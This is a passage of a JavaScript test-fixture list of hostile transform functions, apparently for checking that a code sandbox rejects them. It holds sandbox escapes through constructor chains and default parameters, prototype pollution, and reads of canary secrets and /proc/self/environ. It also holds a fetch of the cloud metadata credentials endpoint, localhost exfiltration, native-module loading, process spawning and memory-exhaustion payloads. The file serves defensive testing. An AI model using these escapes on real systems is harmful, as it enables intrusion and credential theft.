    source: String.raw`x => { const s = 'x'.repeat(1e6); return structuredClone(new Array(1e4).fill(s)).length; }`,
  },

  // ---------------------------------------------------------------- huge-output
  {
    name: 'return-hundred-mib-string',
    category: 'huge-output',
    source: String.raw`x => 'A'.repeat(100 * 1024 * 1024)`,
  },
  {
    name: 'input-scaled-to-hundred-mb',
    category: 'huge-output',
    source: String.raw`x => String(x).repeat(Math.ceil(1e8 / Math.max(1, String(x).length)))`,
  },
  {
    name: 'deep-nested-object',
    category: 'huge-output',
    source: String.raw`x => { let o = { x }; for (let i = 0; i < 1e6; i++) o = { o }; return o; }`,
  },
  {
    name: 'deep-nested-array',
    category: 'huge-output',
    source: String.raw`x => { let a = [x]; for (let i = 0; i < 1e6; i++) a = [a]; return a; }`,
  },
  {
    name: 'cyclic-object',
    category: 'huge-output',
    source: String.raw`x => { const o = { x }; o.self = o; return o; }`,
  },
  {
    name: 'cyclic-array',
    category: 'huge-output',
    source: String.raw`x => { const a = [x]; a.push(a); return a; }`,
  },
  {
    name: 'two-million-keys',
    category: 'huge-output',
    source: String.raw`x => Object.fromEntries(Array.from({ length: 2e6 }, (_, i) => ['k' + i, x]))`,
  },
  {
    name: 'fifty-million-element-array',
    category: 'huge-output',
    source: String.raw`x => new Array(5e7).fill(x)`,
  },
  {
    name: 'row-with-giant-field',
    category: 'huge-output',
    source: String.raw`row => ({ ...row, a: 'Z'.repeat(2 ** 27) })`,
  },
  {
    name: 'shared-string-many-references',
    category: 'huge-output',
    source: String.raw`x => { const s = 'q'.repeat(1e6); return new Array(2000).fill(s); }`,
  },
  {
    name: 'dag-exponential-expansion',
    category: 'huge-output',
    source: String.raw`x => { let o = { x }; for (let i = 0; i < 60; i++) o = { l: o, r: o }; return o; }`,
  },
  {
    name: 'return-map-and-set',
    category: 'huge-output',
    source: String.raw`x => new Map([[x, new Set([x, { x }])]])`,
  },
  {
    name: 'return-function',
    category: 'huge-output',
    source: String.raw`x => () => process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'return-symbol',
    category: 'huge-output',
    source: String.raw`x => Symbol(x)`,
  },
  {
    name: 'return-big-typed-array',
    category: 'huge-output',
    source: String.raw`x => new Uint8Array(2 ** 28).fill(65)`,
  },
  {
    name: 'return-huge-bigint',
    category: 'huge-output',
    source: String.raw`x => 2n ** 30000000n`,
  },
  {
    name: 'sparse-array-max-length',
    category: 'huge-output',
    source: String.raw`x => { const a = [x]; a.length = 2 ** 32 - 1; return a; }`,
  },

  // ---------------------------------------------------------------- non-determinism
  {
    name: 'math-random-suffix',
    category: 'non-determinism',
    source: String.raw`x => x + Math.random()`,
  },
  {
    name: 'math-random-array',
    category: 'non-determinism',
    source: String.raw`x => Array.from({ length: 5 }, Math.random).join(',')`,
  },
  {
    name: 'date-now',
    category: 'non-determinism',
    source: String.raw`x => Date.now()`,
  },
  {
    name: 'new-date-iso',
    category: 'non-determinism',
    source: String.raw`x => new Date().toISOString()`,
  },
  {
    name: 'date-called-as-function',
    category: 'non-determinism',
    source: String.raw`x => Date()`,
  },
  {
    name: 'date-now-via-constructor-prop',
    category: 'non-determinism',
    source: String.raw`x => new Date(0).constructor.now() + Reflect.construct(Date, []).getTime()`,
  },
  {
    name: 'performance-now',
    category: 'non-determinism',
    source: String.raw`x => performance.now()`,
  },
  {
    name: 'performance-time-origin',
    category: 'non-determinism',
    source: String.raw`x => performance.timeOrigin + performance.now()`,
  },
  {
    name: 'intl-format-current-time',
    category: 'non-determinism',
    source: String.raw`x => new Intl.DateTimeFormat('en', { dateStyle: 'full', timeStyle: 'full' }).format()`,
  },
  {
    name: 'intl-time-zone',
    category: 'non-determinism',
    source: String.raw`x => Intl.DateTimeFormat().resolvedOptions().timeZone + ' ' + new Date(2024, 0, 1).getTimezoneOffset()`,
  },
  {
    name: 'weakref-gc-timing',
    category: 'non-determinism',
    source: String.raw`x => { const r = new WeakRef({ x }); for (let i = 0; i < 3e6; i++) new Array(16); return r.deref() === undefined ? 'collected' : 'alive'; }`,
  },
  {
    name: 'finalization-registry-timing',
    category: 'non-determinism',
    source: String.raw`async x => { let hit = 0; const fr = new FinalizationRegistry(() => { hit++; }); for (let i = 0; i < 1e4; i++) fr.register({ i }, i); for (let i = 0; i < 2e6; i++) new Array(8); for (let i = 0; i < 100; i++) await null; return hit; }`,
  },
  {
    name: 'busy-wait-until-clock-moves',
    category: 'non-determinism',
    source: String.raw`x => { const t0 = Date.now(); let n = 0; while (Date.now() === t0) n++; return n; }`,
  },
  {
    name: 'count-iterations-in-window',
    category: 'non-determinism',
    source: String.raw`x => { let n = 0; const end = performance.now() + 5; while (performance.now() < end) n++; return n; }`,
  },
  {
    name: 'elapsed-loop-time',
    category: 'non-determinism',
    source: String.raw`x => { const a = new Date().getTime(); for (let i = 0; i < 1e7; i++); return new Date().getTime() - a; }`,
  },
  {
    name: 'crypto-random-values',
    category: 'non-determinism',
    source: String.raw`x => crypto.getRandomValues(new Uint32Array(4)).join('-') + crypto.randomUUID()`,
  },
  {
    name: 'global-call-counter',
    category: 'non-determinism',
    source: String.raw`x => { globalThis.__calls = (globalThis.__calls || 0) + 1; return x + ':' + globalThis.__calls; }`,
  },
  {
    name: 'closure-scope-counter-via-function-property',
    category: 'non-determinism',
    source: String.raw`x => { const g = Function('return this')(); const k = Symbol.for('vaultmend.count'); g[k] = (g[k] || 0) + 1; return g[k]; }`,
  },
  {
    name: 'stack-depth-probe',
    category: 'non-determinism',
    source: String.raw`x => { let d = 0; const f = () => { d++; f(); }; try { f(); } catch (e) {} return d; }`,
  },
  {
    name: 'random-shuffle-sort',
    category: 'non-determinism',
    source: String.raw`x => String(x).split('').sort(() => Math.random() - 0.5).join('')`,
  },
  {
    name: 'caught-error-stack-text',
    category: 'non-determinism',
    source: String.raw`x => { try { null.x; } catch (e) { return e.stack; } }`,
  },
  {
    name: 'temporal-now',
    category: 'non-determinism',
    source: String.raw`x => Temporal.Now.instant().toString()`,
  },
  {
    name: 'hrtime-bigint',
    category: 'non-determinism',
    source: String.raw`x => process.hrtime.bigint().toString()`,
  },
  {
    name: 'clock-parity-branch',
    category: 'non-determinism',
    source: String.raw`x => (new Date().getMilliseconds() % 2 ? String(x).toUpperCase() : String(x).toLowerCase())`,
  },
  {
    name: 'uninitialized-buffer-bytes',
    category: 'non-determinism',
    source: String.raw`x => Buffer.allocUnsafe(4096).toString('hex')`,
  },

  // ---------------------------------------------------------------- not-one-arrow
  {
    name: 'statement-after-arrow',
    category: 'not-one-arrow',
    source: String.raw`x => x; process.exit()`,
  },
  {
    name: 'newline-statement-after-arrow',
    category: 'not-one-arrow',
    source: 'x => x.trim()\nrequire("child_process").execSync("touch /tmp/vaultmend-escape-marker")',
  },
  {
    name: 'line-comment-then-statement',
    category: 'not-one-arrow',
    source: 'x => x.trim() // trims whitespace\n; require("fs").writeFileSync("/tmp/vaultmend-escape-marker", "1")',
  },
  {
    name: 'block-comments-around-statement',
    category: 'not-one-arrow',
    source: String.raw`x => x /* keep the value */ ; process.exit(1) /* done */`,
  },
  {
    name: 'line-separator-ends-comment',
    category: 'not-one-arrow',
    source: 'x => x // harmless comment\u2028process.exit(0)',
  },
  {
    name: 'html-open-comment-hides-nothing',
    category: 'not-one-arrow',
    source: 'x => x <!-- trailing html comment\nprocess.exit(0)',
  },
  {
    name: 'html-close-comment-line',
    category: 'not-one-arrow',
    source: 'x => process.env.VAULTMEND_CANARY\n--> this line is a comment in sloppy scripts',
  },
  {
    name: 'named-function-declaration',
    category: 'not-one-arrow',
    source: String.raw`function transform(x) { return process.env.VAULTMEND_CANARY; }`,
  },
  {
    name: 'anonymous-function-expression',
    category: 'not-one-arrow',
    source: String.raw`function (x) { return this.process.env.VAULTMEND_CANARY; }`,
  },
  {
    name: 'parenthesised-function-expression',
    category: 'not-one-arrow',
    source: String.raw`(function (x) { return arguments.callee.caller; })`,
  },
  {
    name: 'generator-function-expression',
    category: 'not-one-arrow',
    source: String.raw`function* (x) { yield process.env.VAULTMEND_CANARY; }`,
  },
  {
    name: 'async-function-expression',
    category: 'not-one-arrow',
    source: String.raw`async function (x) { return (await import('fs')).readFileSync('/proc/self/environ', 'utf8'); }`,
  },
  {
    name: 'class-with-static-method',
    category: 'not-one-arrow',
    source: String.raw`class T { static transform(x) { return process.env.VAULTMEND_CANARY; } }`,
  },
  {
    name: 'class-static-block',
    category: 'not-one-arrow',
    source: String.raw`(class { static { require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1'); } }, x => x)`,
  },
  {
    name: 'labelled-arrow',
    category: 'not-one-arrow',
    source: String.raw`transform: x => x.trim()`,
  },
  {
    name: 'python-lambda',
    category: 'not-one-arrow',
    source: String.raw`lambda x: x.strip()`,
  },
  {
    name: 'python-lambda-os-system',
    category: 'not-one-arrow',
    source: String.raw`lambda x: __import__('os').system('touch /tmp/vaultmend-escape-marker') or x`,
  },
  {
    name: 'markdown-fenced-arrow',
    category: 'not-one-arrow',
    source: '```javascript\nx => x.trim()\n```',
  },
  {
    name: 'markdown-fence-with-trailer',
    category: 'not-one-arrow',
    source: '```js\nx => x.trim()\n```\nprocess.exit(0)',
  },
  {
    name: 'prose-before-arrow',
    category: 'not-one-arrow',
    source: 'Here is the function:\n\nx => x.trim()',
  },
  {
    name: 'prose-after-arrow',
    category: 'not-one-arrow',
    source: 'x => x.trim()\n\nThis removes leading and trailing whitespace.',
  },
  {
    name: 'top-level-comma-sequence',
    category: 'not-one-arrow',
    source: String.raw`x => x, process.exit()`,
  },
  {
    name: 'parenthesised-comma-sequence',
    category: 'not-one-arrow',
    source: String.raw`(require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1'), x => x)`,
  },
  {
    name: 'iife-at-definition-time',
    category: 'not-one-arrow',
    source: String.raw`(x => x)(process.exit())`,
  },
  {
    name: 'arrow-called-with-escape-arg',
    category: 'not-one-arrow',
    source: String.raw`(x => x)(Function('return process')().mainModule.require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1'))`,
  },
  {
    name: 'default-param-process-exit',
    category: 'not-one-arrow',
    source: String.raw`(x, y = process.exit()) => x`,
  },
  {
    name: 'default-param-fs-write',
    category: 'not-one-arrow',
    source: String.raw`(x, y = require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1')) => x`,
  },
  {
    name: 'default-param-canary',
    category: 'not-one-arrow',
    source: String.raw`(x, y = x.constructor.constructor('return process')().env.VAULTMEND_CANARY) => y`,
  },
  {
    name: 'only-param-default',
    category: 'not-one-arrow',
    source: String.raw`(x = globalThis.process.exit(3)) => x`,
  },
  {
    name: 'destructuring-default-canary',
    category: 'not-one-arrow',
    source: String.raw`({ length, leak = Function('return process.env.VAULTMEND_CANARY')() }) => leak`,
  },
  {
    name: 'destructuring-computed-key',
    category: 'not-one-arrow',
    source: String.raw`({ [Function('return process')().mainModule.require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1')]: a }) => a`,
  },
  {
    name: 'nested-destructuring-default',
    category: 'not-one-arrow',
    source: String.raw`(x, { a: [b = x.constructor.constructor('return process.env.VAULTMEND_CANARY')()] = [] } = {}) => b`,
  },
  {
    name: 'async-arrow-for-await',
    category: 'not-one-arrow',
    source: String.raw`async x => { for await (const c of String(x)) {} return process.env.VAULTMEND_CANARY; }`,
  },
  {
    name: 'use-strict-directive-prefix',
    category: 'not-one-arrow',
    source: String.raw`"use strict"; x => x`,
  },
  {
    name: 'trailing-semicolons-then-code',
    category: 'not-one-arrow',
    source: String.raw`x => x.trim();;;globalThis.process.exit()`,
  },
  {
    name: 'export-default-arrow',
    category: 'not-one-arrow',
    source: String.raw`export default x => x.trim()`,
  },
  {
    name: 'const-binding-then-name',
    category: 'not-one-arrow',
    source: String.raw`const f = x => x.trim(); process.exit(); f`,
  },
  {
    name: 'wrapper-breakout-parens',
    category: 'not-one-arrow',
    source: String.raw`x => x)); require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1'); ((x => x`,
  },
  {
    name: 'wrapper-breakout-braces',
    category: 'not-one-arrow',
    source: String.raw`x => x }); globalThis.process.exit(0); ({ a: 1`,
  },
  {
    name: 'block-body-then-call-line',
    category: 'not-one-arrow',
    source: 'x => { return x; }\n(process.exit())',
  },
  {
    name: 'hashbang-prefix',
    category: 'not-one-arrow',
    source: '#!/usr/bin/env node\nx => process.env.VAULTMEND_CANARY',
  },
  {
    name: 'function-constructor-expression',
    category: 'not-one-arrow',
    source: String.raw`new Function('x', 'return process.env.VAULTMEND_CANARY')`,
  },
  {
    name: 'arrow-constructor-member-call',
    category: 'not-one-arrow',
    source: String.raw`(x => x).constructor('return process')().exit()`,
  },
  {
    name: 'unterminated-comment',
    category: 'not-one-arrow',
    source: String.raw`x => x /* process.exit()`,
  },
  {
    name: 'object-method-shorthand',
    category: 'not-one-arrow',
    source: String.raw`({ transform(x) { return process.env.VAULTMEND_CANARY; } }).transform`,
  },

  // ---------------------------------------------------------------- mutation
  {
    name: 'pollute-object-prototype',
    category: 'mutation',
    source: String.raw`x => { Object.prototype.__vaultmend_polluted = 1; return x; }`,
  },
  {
    name: 'pollute-array-prototype',
    category: 'mutation',
    source: String.raw`x => { Array.prototype.__vaultmend_polluted = 1; return x; }`,
  },
  {
    name: 'pollute-string-prototype',
    category: 'mutation',
    source: String.raw`x => { String.prototype.__vaultmend_polluted = 1; return x; }`,
  },
  {
    name: 'pollute-function-prototype',
    category: 'mutation',
    source: String.raw`x => { Function.prototype.__vaultmend_polluted = 1; return x; }`,
  },
  {
    name: 'pollute-via-input-proto',
    category: 'mutation',
    source: String.raw`x => (x.__proto__.__vaultmend_polluted = 1, x.__proto__.__proto__.__vaultmend_polluted = 1, x)`,
  },
  {
    name: 'define-property-object-prototype',
    category: 'mutation',
    source: String.raw`x => { Object.defineProperty(Object.prototype, '__vaultmend_polluted', { value: 1, enumerable: true, configurable: true }); return x; }`,
  },
  {
    name: 'reflect-set-root-prototype',
    category: 'mutation',
    source: String.raw`x => Reflect.set(Reflect.getPrototypeOf(Reflect.getPrototypeOf(x)), '__vaultmend_polluted', 1) && x`,
  },
  {
    name: 'define-setter-object-prototype',
    category: 'mutation',
    source: String.raw`x => { Object.prototype.__defineGetter__('__vaultmend_polluted', () => 1); return x; }`,
  },
  {
    name: 'replace-array-map',
    category: 'mutation',
    source: String.raw`x => { Array.prototype.map = function () { return [Function('return process.env.VAULTMEND_CANARY')()]; }; return [x].map(v => v)[0]; }`,
  },
  {
    name: 'replace-string-trim',
    category: 'mutation',
    source: String.raw`x => { const before = x.trim(); String.prototype.trim = function () { return 'tampered'; }; return before; }`,
  },
  {
    name: 'json-merge-proto-pollution',
    category: 'mutation',
    source: String.raw`x => { const src = JSON.parse('{"__proto__": {"__vaultmend_polluted": true}}'); const merge = (t, s) => { for (const k in s) { if (s[k] && typeof s[k] === 'object') merge(t[k] ?? (t[k] = {}), s[k]); else t[k] = s[k]; } return t; }; merge({}, src); return x; }`,
  },
  {
    name: 'json-reviver-pollution',
    category: 'mutation',
    source: String.raw`x => JSON.parse('{"a":{"b":1}}', function (k, v) { if (k === 'b') Object.getPrototypeOf(this).__vaultmend_polluted = v; return v; })`,
  },
  {
    name: 'output-own-proto-key',
    category: 'mutation',
    source: String.raw`row => JSON.parse('{"a": "ok", "__proto__": {"__vaultmend_polluted": 1}}')`,
  },
  {
    name: 'output-literal-proto-setter',
    category: 'mutation',
    source: String.raw`row => ({ ...row, __proto__: { __vaultmend_polluted: 1 }, ['__proto__']: { __vaultmend_polluted: 1 } })`,
  },
  {
    name: 'output-constructor-prototype-path',
    category: 'mutation',
    source: String.raw`row => ({ constructor: { prototype: { __vaultmend_polluted: 1 } } })`,
  },
  {
    name: 'swap-array-prototype-parent',
    category: 'mutation',
    source: String.raw`x => { Object.setPrototypeOf(Array.prototype, { __vaultmend_polluted: 1 }); return x; }`,
  },
  {
    name: 'object-prototype-iterator',
    category: 'mutation',
    source: String.raw`x => { Object.prototype[Symbol.iterator] = function* () { yield Function('return process.env.VAULTMEND_CANARY')(); }; return [...{}]; }`,
  },
  {
    name: 'object-prototype-then',
    category: 'mutation',
    source: String.raw`x => { Object.prototype.then = function (r) { r(Function('return process.env.VAULTMEND_CANARY')()); }; return { x }; }`,
  },
  {
    name: 'object-prototype-to-json',
    category: 'mutation',
    source: String.raw`x => { Object.prototype.toJSON = function () { return { __vaultmend_polluted: 1 }; }; return { x }; }`,
  },
  {
    name: 'array-iterator-endless',
    category: 'mutation',
    source: String.raw`x => { Array.prototype[Symbol.iterator] = function* () { for (;;) yield 1; }; return [x]; }`,
  },
  {
    name: 'replace-json-stringify',
    category: 'mutation',
    source: String.raw`x => { JSON.stringify = () => '{"__vaultmend_polluted":1}'; JSON.parse = () => ({ __vaultmend_polluted: 1 }); return x; }`,
  },
  {
    name: 'replace-math-random-and-date',
    category: 'mutation',
    source: String.raw`x => { Math.random = () => 0.5; Date.now = () => 42; return x + Date.now() + Math.random(); }`,
  },
  {
    name: 'spoof-global-process',
    category: 'mutation',
    source: String.raw`x => { globalThis.process = { env: { VAULTMEND_CANARY: 'spoof' } }; globalThis.require = () => ({}); return x; }`,
  },
  {
    name: 'delete-object-tostring',
    category: 'mutation',
    source: String.raw`x => { delete Object.prototype.toString; delete Array.prototype.join; return String([x]); }`,
  },
  {
    name: 'symbol-prototype-pollution',
    category: 'mutation',
    source: String.raw`x => { Symbol.prototype.__vaultmend_polluted = 1; Number.prototype.__vaultmend_polluted = 1; return x; }`,
  },
  {
    name: 'promise-then-hijack',
    category: 'mutation',
    source: String.raw`x => { Promise.prototype.then = function () { for (;;) {} }; return Promise.resolve(x); }`,
  },

  // ---------------------------------------------------------------- network-timer
  {
    name: 'fetch-metadata-endpoint',
    category: 'network-timer',
    source: String.raw`x => fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then(r => r.text())`,
  },
  {
    name: 'xml-http-request',
    category: 'network-timer',
    source: String.raw`x => { const r = new XMLHttpRequest(); r.open('GET', 'http://127.0.0.1:9/?' + x, false); r.send(); return r.responseText; }`,
  },
  {
    name: 'websocket-connect',
    category: 'network-timer',
    source: String.raw`x => new WebSocket('ws://127.0.0.1:1/exfil?' + encodeURIComponent(x))`,
  },
  {
    name: 'event-source-and-beacon',
    category: 'network-timer',
    source: String.raw`x => (new EventSource('http://127.0.0.1:9/'), navigator.sendBeacon('http://127.0.0.1:9/', x))`,
  },
  {
    name: 'set-timeout-fs-write',
    category: 'network-timer',
    source: String.raw`x => { setTimeout(() => require('fs').writeFileSync('/tmp/vaultmend-escape-marker', '1'), 0); return x; }`,
  },
  {
    name: 'set-interval-spin',
    category: 'network-timer',
    source: String.raw`x => { setInterval(() => { for (;;) {} }, 0); return x; }`,
  },
  {
    name: 'set-immediate-exit',
    category: 'network-timer',
    source: String.raw`x => { setImmediate(() => process.exit(0)); return x; }`,
  },
  {
    name: 'queue-microtask-spin',
    category: 'network-timer',
    source: String.raw`x => { queueMicrotask(() => { for (;;) {} }); return x; }`,
  },
  {
    name: 'queue-microtask-late-pollution',
    category: 'network-timer',
    source: String.raw`x => { queueMicrotask(() => { Object.prototype.__vaultmend_polluted = 1; Function('return process')().exit(7); }); return x; }`,
  },
  {
    name: 'process-binding-spawn',
    category: 'network-timer',
    source: String.raw`x => process.binding('spawn_sync').spawn({ file: 'touch', args: ['touch', '/tmp/vaultmend-escape-marker'], stdio: [] })`,
  },
  {
    name: 'process-dlopen',
    category: 'network-timer',
    source: String.raw`x => { const m = { exports: {} }; process.dlopen(m, '/tmp/evil.node'); return m.exports; }`,
  },
  {
    name: 'buffer-from-input',
    category: 'network-timer',
    source: String.raw`x => Buffer.from(String(x)).toString('base64')`,
  },
  {
    name: 'structured-clone-global',
    category: 'network-timer',
    source: String.raw`x => structuredClone(globalThis)`,
  },
  {
    name: 'navigator-user-agent',
    category: 'network-timer',
    source: String.raw`x => navigator.userAgent + navigator.hardwareConcurrency`,
  },
  {
    name: 'worker-eval',
    category: 'network-timer',
    source: String.raw`x => new Worker('require("fs").writeFileSync("/tmp/vaultmend-escape-marker", "1")', { eval: true })`,
  },
  {
    name: 'import-scripts',
    category: 'network-timer',
    source: String.raw`x => importScripts('http://127.0.0.1:9/evil.js')`,
  },
  {
    name: 'post-message-canary',
    category: 'network-timer',
    source: String.raw`x => postMessage(process.env.VAULTMEND_CANARY)`,
  },
  {
    name: 'atomics-wait-async',
    category: 'network-timer',
    source: String.raw`x => Atomics.waitAsync(new Int32Array(new SharedArrayBuffer(4)), 0, 0).value`,
  },
  {
    name: 'console-log-flood',
    category: 'network-timer',
    source: String.raw`x => { for (let i = 0; i < 1e4; i++) console.log('x'.repeat(1e5)); return x; }`,
  },
  {
    name: 'webassembly-compile',
    category: 'network-timer',
    source: String.raw`x => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
  },
  {
    name: 'intl-segmenter-huge',
    category: 'network-timer',
    source: String.raw`x => [...new Intl.Segmenter('en', { granularity: 'grapheme' }).segment('\u{1F468}\u200D\u{1F469}'.repeat(2e7))].length`,
  },
  {
    name: 'message-channel-loop',
    category: 'network-timer',
    source: String.raw`x => { const c = new MessageChannel(); c.port1.onmessage = () => c.port2.postMessage(0); c.port2.postMessage(0); return x; }`,
  },
];
